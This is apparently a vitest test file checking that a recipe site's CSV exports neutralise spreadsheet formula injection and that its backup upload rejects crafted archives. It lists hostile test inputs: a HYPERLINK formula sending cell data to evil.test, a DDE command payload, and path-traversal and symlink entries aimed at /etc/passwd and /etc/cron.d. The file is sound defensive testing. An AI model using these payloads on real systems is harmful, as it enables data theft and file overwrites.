import { readdir, readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { gunzipSync, gzipSync } from 'node:zlib'
import { pack } from 'tar-stream'
import { expect, test } from 'vitest'
import { readFlash } from '../src/core/forms/flash.ts'
import { auditLog } from '../src/db/schema/audit.ts'
import { users } from '../src/db/schema/accounts.ts'
import { newsletterSubscribers } from '../src/db/schema/newsletter.ts'
import { writeBackup } from '../src/operations/backup/write-backup.ts'
import { createUser } from './accounts.ts'
import { contentsOf } from './database-contents.ts'
import { thingsOf } from './owned-things.ts'
import { createWholeSite } from './whole-site.ts'

const { app, send, visitor, logged } = await createWholeSite()
const admin = await createUser(app, 'admin')
const { cookie } = admin

/** Values that a spreadsheet would run as a formula or treat as the end of a cell. */
const formulas = [
  '=HYPERLINK("https://evil.test?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|x',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  ';=1+1',
  '"=1+1',
  ',=1+1',
  '\u{FEFF}=1+1',
  '＝1+1',
]

/** Parses a file's cells like a spreadsheet does (RFC 4180). */
function cellsOf(csv: string): Array<string> {
  const cells = csv.replace(/^\u{FEFF}/u, '').matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n)/g)
  return [...cells].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '')
}

test('exports the audit log without formulas and with complete names', async () => {
  for (const name of formulas) {
    const { user } = await createUser(app, 'cook', name)
    await app.db
      .insert(auditLog)
      .values({ actorId: user.id, action: name, subjectKind: name, subjectId: name, details: { name } })
  }
  const answer = await send('/admin/audit/export', { cookie })
  expect(answer.headers.get('content-type')).toContain('text/csv')
  const text = await answer.text()
  const cells = cellsOf(text)
  expect(cells.length % 8).toBe(0)
  expect(cells.filter((cell) => /^[\s\p{Cc}]*[=+\-@＝]/u.test(cell))).toEqual([])
  expect(formulas.filter((name) => !cells.some((cell) => cell === name || cell === `'${name}`))).toEqual([])
  // Some spreadsheets split cells at a semicolon or tab outside quotes.
  expect(text).not.toMatch(/(?:^|[,\n])[^",\r\n]*[;\t]/m)
})

test('exports the subscribers without formulas', async () => {
  const addresses = formulas.map((name, place) => `${name}@kitchen${place}.test`)
  await app.db.insert(newsletterSubscribers).values(addresses.map((email) => ({ email })))
  const cells = cellsOf(await (await send('/admin/newsletter/export', { cookie })).text())
  expect(cells.filter((cell) => /^[\s\p{Cc}]*[=+\-@＝]/u.test(cell))).toEqual([])
  expect(addresses.filter((email) => !cells.some((cell) => cell === email || cell === `'${email}`))).toEqual([])
})

await thingsOf(app, admin, 'Backup').recipe('published')
const folder = join(app.env.DATA_DIR, 'backups')
const made = join(app.env.DATA_DIR, 'made.backup')
await writeBackup(app, made)
const whole = Uint8Array.from(await readFile(made))
const unpacked = gunzipSync(whole)

type Entry = Parameters<ReturnType<typeof pack>['entry']>[0]
async function archiveOf(header: Entry): Promise<Uint8Array> {
  const archive = pack()
  archive.entry(header, header.type ? '' : 'x')
  archive.finalize()
  return gzipSync(Buffer.concat(await Array.fromAsync(archive as AsyncIterable<Buffer>)))
}

test.each([
  ['cut in half', whole.slice(0, whole.length / 2), 'not a complete backup'],
  // The cut may be exactly between two parts. Then only the end is missing.
  ['cut in half and packed again', gzipSync(unpacked.subarray(0, unpacked.length / 2)), 'cut off'],
  ['without its last byte', whole.slice(0, -1), 'not a complete backup'],
  [
    'with a path upward',
    await archiveOf({ name: '../../evil.webp' }),
    'holds "../../evil.webp", which no backup contains',
  ],
  [
    'with a path upward inside',
    await archiveOf({ name: 'pictures/../../x/original.webp' }),
    'which no backup contains',
  ],
  ['with an absolute path', await archiveOf({ name: '/etc/cron.d/evil' }), 'which no backup contains'],
  ['with a path of Windows', await archiveOf({ name: '..\\..\\evil.webp' }), 'which no backup contains'],
  [
    'with a link',
    await archiveOf({ name: 'pictures/a/original.webp', type: 'symlink', linkname: '/etc/passwd' }),
    'no',
  ],
  [
    'with a hard link',
    await archiveOf({ name: 'pictures/a/original.webp', type: 'link', linkname: '/etc/passwd' }),
    'no',
  ],
  ['with a device', await archiveOf({ name: 'pictures/a/original.webp', type: 'character-device' }), 'no'],
  ['that is a picture', new TextEncoder().encode('GIF89a'), 'not a complete backup'],
])('refuses a backup %s with a reason, stores nothing and logs it', async (_, body, why) => {
  const before = await contentsOf(app.db)
  const answer = await send('/api/backups', { cookie, body: Uint8Array.from(body) })
  expect(answer.status).toBe(422)
  const { error } = (await answer.json()) as { error: string }
  expect(error).toContain('The file was not saved.')
  expect(error).toContain(why)
  expect(await readdir(folder)).toEqual([])
  expect(await contentsOf(app.db)).toEqual(before)
  expect(logged().at(-1)).toMatchObject({ method: 'POST', path: '/api/backups', status: 422 })
})

test('restores a complete backup and refuses unsafe names', async () => {
  const names = ['../../../etc/passwd', '../made.backup', 'kitchen-2026-11-20-143000.backup/../../made.backup']
  for (const name of names) {
    expect((await send(`/api/backups/${encodeURIComponent(name)}`, { cookie })).status).toBe(404)
    expect((await send('/admin/backup', { cookie, fields: { intent: 'restore', name } })).status).toBe(422)
  }
  const taken = await send('/api/backups', { cookie, body: whole })
  expect(taken.status).toBe(201)
  const { name } = (await taken.json()) as { name: string }
  await app.db.update(users).set({ name: 'Changed since' })
  const back = await send('/admin/backup', { cookie, fields: { intent: 'restore', name } })
  expect(back.headers.get('location')).toBe('/auth?next=%2Fadmin%2Fbackup')
  // A restore signs out everyone, so the next page shows the message.
  expect(readFlash(back.headers.get('set-cookie') ?? '')?.title).toBe('Backup restored')
  expect(JSON.stringify(await app.db.select({ name: users.name }).from(users))).not.toContain('Changed since')
  const again = visitor((await createUser(app, 'admin')).cookie)
  const page = await again.open('/admin/backup')
  expect(page.text('[aria-labelledby=restored-title]')).toMatch(
    /The site is restored to its state of .* with \d+ recipes?, \d+ accounts? and \d+ pictures?/,
  )
  expect((await page.send('Dismiss')).text('main')).not.toContain('Backup restored')
})
